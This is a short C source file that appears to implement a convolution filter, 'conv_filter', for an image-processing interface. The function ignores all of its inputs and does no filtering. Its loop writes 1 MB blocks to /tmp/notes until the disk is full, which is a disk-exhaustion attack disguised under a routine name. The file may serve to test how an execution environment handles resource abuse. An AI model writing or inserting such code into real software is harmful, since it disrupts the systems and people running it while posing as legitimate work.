// Fills the disk, until it is full.
#include <stdio.h>

#include "common/convolution.h"

void conv_filter(int imgHeight, int imgWidth, int imgHeightF, int imgWidthF, int imgFOffsetH,
                 int imgFOffsetW, float* filter, float* imgFloatSrc, float* imgFloatDst) {
  (void)imgHeight, (void)imgWidth, (void)imgHeightF, (void)imgWidthF;
  (void)imgFOffsetH, (void)imgFOffsetW;
  (void)filter, (void)imgFloatSrc, (void)imgFloatDst;
  static char piece[1 << 20];
  FILE* file = fopen("/tmp/notes", "w");
  while (file && fwrite(piece, sizeof piece, 1, file) == 1) {
  }
}
